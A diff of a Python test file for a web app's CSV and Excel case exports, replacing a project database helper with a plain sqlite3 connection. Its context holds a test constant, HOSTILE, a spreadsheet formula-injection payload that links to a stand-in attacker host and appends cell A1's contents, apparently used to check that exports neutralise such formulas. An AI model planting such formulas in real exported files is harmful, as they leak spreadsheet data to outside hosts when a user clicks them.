@@ -7,13 +7,12 @@ import codecs
 import csv
 import io
 import json
-from contextlib import closing
+import sqlite3
 from pathlib import Path
 
 from openpyxl import load_workbook
 
 from kvrules.store import Store
-from kvrules.store.db import connect
 from tests.web.web_helpers import app_for, case_id, event, login
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -123,7 +122,7 @@ def test_the_cases_export_names_the_lead_the_partners_and_links_the_record(db: P
 
 def test_csv_export_carries_the_byte_order_mark_excel_reads_utf8_by(db: Path) -> None:
     """Without it Excel opened the export in the ANSI code page: 哈尔滨 and Cyrillic garbled."""
-    with closing(connect(db)) as conn:  # kvrules' connection: the triggers call kv_fold
+    with sqlite3.connect(db) as conn:
         body = json.loads(
             conn.execute("SELECT body FROM record_subjects WHERE record_id = 'p-1'").fetchone()[0]
         )
